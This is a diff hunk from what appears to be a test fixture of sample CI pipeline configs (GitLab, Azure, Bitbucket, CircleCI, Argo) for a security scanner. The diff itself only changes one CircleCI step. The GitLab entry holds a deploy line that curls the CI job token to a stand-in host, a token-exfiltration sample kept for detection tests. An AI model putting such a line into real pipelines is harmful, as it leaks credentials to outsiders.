@@ -88,7 +88,7 @@ jobs:
     ".gitlab-ci.yml": "deploy:\n  script:\n    - curl https://x/?$CI_JOB_TOKEN\n",
     "azure-pipelines.yml": "jobs:\n- job: a\n  container: ubuntu:latest\n  steps:\n  - script: echo hi\n",
     "bitbucket-pipelines.yml": "image: foo:latest\npipelines:\n  default:\n    - step: {script: [echo x]}\n",
-    ".circleci/config.yml": "version: 2.1\njobs:\n  build:\n    docker: [{image: 'foo:latest'}]\n    steps: [checkout]\n",
+    ".circleci/config.yml": "version: 2.1\njobs:\n  build:\n    docker: [{image: 'foo:latest'}]\n    steps: [a]\n",
     "argo/workflow.yaml": """apiVersion: argoproj.io/v1alpha1
 kind: Workflow
 metadata: {generateName: x-}
